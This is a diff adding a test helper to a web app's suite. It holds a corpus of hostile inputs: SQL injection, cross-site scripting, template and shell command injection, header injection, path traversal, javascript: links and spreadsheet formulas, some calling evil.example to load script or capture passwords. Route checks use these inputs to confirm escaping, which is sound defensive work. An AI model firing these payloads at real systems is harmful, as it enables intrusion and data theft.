@@ -1,0 +1,221 @@
+/** What strangers have typed into other people's forms and chats, and the fields they may type it into here. */
+import { nameOf } from '../../src/vendors/whapi-item.ts'
+import { initialsOf } from '../pages/parts.tsx'
+import { ORIGIN, type House } from '../testing.ts'
+
+const hostile = {
+  sql: [
+    `' or '1'='1`,
+    `'; drop table app.messages; --`,
+    `" or ""="`,
+    `1; select pg_sleep(10)--`,
+    `') union select password_hash from app.users --`,
+    `\\'; delete from app.orgs; --`,
+    `$1; update app.members set role = 'owner'`,
+    `{"$ne": null}`,
+    `%' and 1=0 union all select null --`,
+    `x'::uuid; set role app_owner; --`,
+  ],
+  markup: [
+    `<script>alert(1)</script>`,
+    `<img src=x onerror=alert(1)>`,
+    `"><svg onload=alert(1)>`,
+    `' onmouseover='alert(1)`,
+    `" autofocus onfocus="alert(1)`,
+    `</title></textarea></style><script>alert(1)</script>`,
+    `&lt;script&gt;alert(1)&lt;/script&gt;`,
+    `<!-- comment`,
+    `]]><script>alert(1)</script>`,
+    `<a href="javascript:alert(1)">tap</a>`,
+    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+    `<style>@import 'https://evil.example/x.css';</style>`,
+    `<base href="https://evil.example/">`,
+    `<form action="https://evil.example"><input name="password">`,
+    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
+    `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+    `&#60;b&#62;bold&#60;/b&#62; &amp;amp; &copy`,
+    `\`onload=alert(1)\``,
+    `<sCrIpT/src=//evil.example/x.js>`,
+    `=""><b>`,
+  ],
+  templates: [
+    `{{constructor.constructor("alert(1)")()}}`,
+    '${7*7}',
+    '#{7*7}',
+    '<%= 7*7 %>',
+    '{% include "/etc/passwd" %}',
+    '$(touch /tmp/owned)',
+    '`touch /tmp/owned`',
+    '%s%s%n',
+    '{0}{1}',
+    '$& $1 $$ $`',
+  ],
+  lines: [
+    'first\r\nSet-Cookie: sid=stolen',
+    'first\nBcc: everybody@example.com',
+    'first\r\n\r\n<script>alert(1)</script>',
+    '%0d%0aLocation:%20https://evil.example',
+    'first\u2028second\u2029third',
+    'tab\there, bell \u0007, escape \u001B[31m',
+    'vertical\u000Bform\u000Cnext\u0085',
+  ],
+  unicode: [
+    'nul\u0000in the middle',
+    'half a pair \uD83D here',
+    'the other half \uDE00 here',
+    'right to left \u202Egnp.exe',
+    'isolated \u2066\u2067left\u2069',
+    'zero\u200Bwidth\u200Djoin\uFEFF',
+    '\u200B\u200E\uFEFF',
+    '＜script＞alert(1)＜/script＞',
+    'ＳＥＬＥＣＴ ＊ ＦＲＯＭ users',
+    '👩‍👩‍👧‍👦🏳️‍🌈🇿🇦',
+    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
+    'ﷺ اَلْعَرَبِيَّةُ',
+    'ıİſK ß ΐ',
+    '\u{10FFFF}\uFFFE\uFFFF',
+  ],
+  names: [
+    '__proto__',
+    'constructor',
+    'toString',
+    'hasOwnProperty',
+    '__proto__[role]=owner',
+    'null',
+    'undefined',
+    'NaN',
+    'true',
+    '-1',
+    '1e309',
+    '0x7fffffff',
+  ],
+  paths: [
+    '../../../../etc/passwd',
+    '..%2f..%2fetc%2fpasswd',
+    String.raw`..\..\windows\win.ini`,
+    '/etc/passwd%00.png',
+    'file:///etc/passwd',
+    '//evil.example/path',
+  ],
+  links: [
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    ' javascript:alert(1)',
+    'java\tscript:alert(1)',
+    'java\nscript:alert(1)',
+    '\u0001javascript:alert(1)',
+    'javascript&colon;alert(1)',
+    '&#106;avascript:alert(1)',
+    'javascript://www.example.com/%0aalert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    'vbscript:msgbox(1)',
+    'https://user:pass@evil.example/',
+  ],
+  formulas: [
+    '=1+1',
+    '+27825550100',
+    '-2+3',
+    '@SUM(1+1)*cmd|calc',
+    '=HYPERLINK("https://evil.example","tap")',
+    "'=1+1",
+  ],
+  long: ['x'.repeat(10_000), '<b>'.repeat(1000), '€'.repeat(3000), `${'"'.repeat(300)}>`],
+} as const
+
+export const corpus: readonly string[] = Object.values(hostile).flat()
+export const linkCorpus: readonly string[] = hostile.links
+
+/** Values that each route takes, by the field's name: the others stay so while one is hostile. */
+type Takes = { form?: Record<string, string>; query?: Record<string, string> }
+const v = 'a version'
+const before = '2026-11-24T08:00:00.000Z_018f0000-0000-7000-8000-000000000001'
+const email = 'somebody@example.com'
+const t = 'x'.repeat(43)
+export const takes: Record<string, Takes> = {
+  'GET /login': { query: { notice: 'link_spent' } },
+  'POST /login': { form: { email } },
+  'GET /login/verify': { query: { t } },
+  'POST /login/verify': { form: { t, code: '1234 5678' } },
+  'POST /login/password': { form: { email, password: 'seven quiet hadedas' } },
+  'GET /security/password': { query: { notice: 'saved' } },
+  'POST /security/password': { form: { current: '', password: 'seven quiet hadedas' } },
+  'POST /signup': {
+    form: { business: 'Karoo Plumbers', name: 'Pieter', email, phone: '082 555 0133' },
+  },
+  'GET /': { query: { show: 'all', before, v } },
+  'GET /live': { query: { show: 'all', before, v } },
+  'GET /conversations/:id': { query: { before: '7', v, done: 'takeover' } },
+  'GET /conversations/:id/live': { query: { before: '7', v, done: 'takeover' } },
+  'POST /conversations/:id/replies': { form: { text: 'On my way', cid: crypto.randomUUID() } },
+  'GET /connect/live': { query: { v } },
+  'POST /connect': { form: { token: 'no-such-token', phone: '082 555 0150' } },
+  'GET /activity': { query: { who: 'all', what: 'all', before: '7' } },
+}
+
+let turn = 0
+/** Every request from a network of its own, so that no limit is met. */
+export const fromAnywhere = (): Record<string, string> => {
+  turn += 1
+  return { 'CF-Connecting-IP': `10.${(turn >> 16) & 255}.${(turn >> 8) & 255}.${turn & 255}` }
+}
+
+type Sent = { query?: URLSearchParams; form?: URLSearchParams; headers?: Record<string, string> }
+
+/** A request as a browser makes it from a page of ours. */
+export const send = (house: House, route: string, { query, form, headers = {} }: Sent) => {
+  const [method = '', path = ''] = route.split(' ')
+  return house.request(path + (query ? `?${query.toString()}` : ''), {
+    method,
+    headers: { Origin: ORIGIN, ...fromAnywhere(), ...headers },
+    ...(method === 'POST' ? { body: form ?? new URLSearchParams() } : {}),
+  })
+}
+
+/** What the state of every table comes to: rows, and the newest transaction that wrote one. */
+export const tableStates = async (house: House): Promise<Record<string, string>> => {
+  const [tables = []] = await house.asOwner(
+    `select relname from pg_class k join pg_namespace n on n.oid = k.relnamespace where nspname = 'app' and relkind = 'r'`,
+  )
+  const each = tables.map(
+    ({ relname }) =>
+      `select '${String(relname)}' as name, count(*) || ' ' || coalesce(max(xmin::text::bigint), 0) as state from app.${String(relname)}`,
+  )
+  const [rows = []] = await house.asOwner(each.join(' union all '))
+  return Object.fromEntries(rows.map(({ name, state }) => [String(name), String(state)]))
+}
+
+export const changedTables = (
+  earlier: Record<string, string>,
+  later: Record<string, string>,
+): string[] => Object.keys(later).filter((name) => later[name] !== earlier[name])
+
+/** As the database can hold it: the only two things it cannot are replaced. */
+export const storable = (text: string): string => text.replaceAll('\0', '\uFFFD').toWellFormed()
+
+/** Harmless words that bring about the same parts of a page: initials or none, a name or a number. */
+export const neutralName = (name: string): string => {
+  const shown = nameOf(storable(name))
+  if (shown === null) return ''
+  return initialsOf(shown) === '' ? '12 34' : 'Neutral Name'
+}
+
+/** As a page must hold it: escaped once. */
+export const escapedOnce = (text: string): string =>
+  text
+    .replaceAll('&', '&amp;')
+    .replaceAll('<', '&lt;')
+    .replaceAll('>', '&gt;')
+    .replaceAll('"', '&quot;')
+    .replaceAll("'", '&#39;')
+
+const ADDRESSES = /\s(?:href|src|action|formaction|data-live|data-reading)="([^"]*)"/g
+const HARMLESS = /^(?:\/(?!\/)|\?|#|tel:\+?\d|mailto:|https?:\/\/)/
+
+/** The addresses of a page that lead anywhere but into this site, to a phone, a mail or a web page. */
+export const dangerousLinks = (page: string): string[] =>
+  [...page.matchAll(ADDRESSES)].map(([, address = '']) => address).filter((a) => !HARMLESS.test(a))
+
+export const addressesOf = (page: string): number => [...page.matchAll(ADDRESSES)].length
